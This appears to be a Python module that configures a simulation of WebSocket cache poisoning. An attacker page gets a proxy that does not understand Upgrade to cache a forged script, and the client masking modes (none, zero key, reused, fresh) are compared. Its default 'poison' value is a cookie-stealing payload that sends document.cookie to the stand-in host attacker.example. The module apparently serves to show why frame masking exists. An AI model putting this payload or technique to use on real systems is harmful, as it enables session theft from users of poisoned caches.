"""A page, a proxy with a cache that knows no WebSocket, and a server."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

MASKINGS: Final = ("none", "zero", "reused", "fresh")
"""How the client of an attempt masks: not at all, with a key of zeros, with one key for all frames, or as it must."""

CHAT: Final = "chat"
ATTACK: Final = "attack"
AGAIN: Final = "again"
"""The connections: an honest one, the attempt, and the same attempt with fresh keys."""


@dataclass(frozen=True, slots=True)
class CacheSetup:
    """An honest page says `says` twice. Then the page of `attacker` wants the proxy to read a GET of `path` on
    `victim`, which its server answers with `poison`; the genuine answer is `genuine`.

    The client of the attempt masks as `masking` says. With `again` the cache is emptied and the attempt repeated by a
    client that masks as it must. A proxy that `understands` Upgrade tunnels what comes after the 101. The text goes
    as a `kind` message, `text` or `binary`."""

    says: str = "Hello"
    attacker: str = "attacker.example"
    victim: str = "stats.example"
    path: str = "/track.js"
    poison: str = "send(document.cookie, 'attacker.example')"
    genuine: str = "count(location.pathname)"
    masking: str = MASKINGS[0]
    again: bool = True
    understands: bool = False
    kind: str = "text"
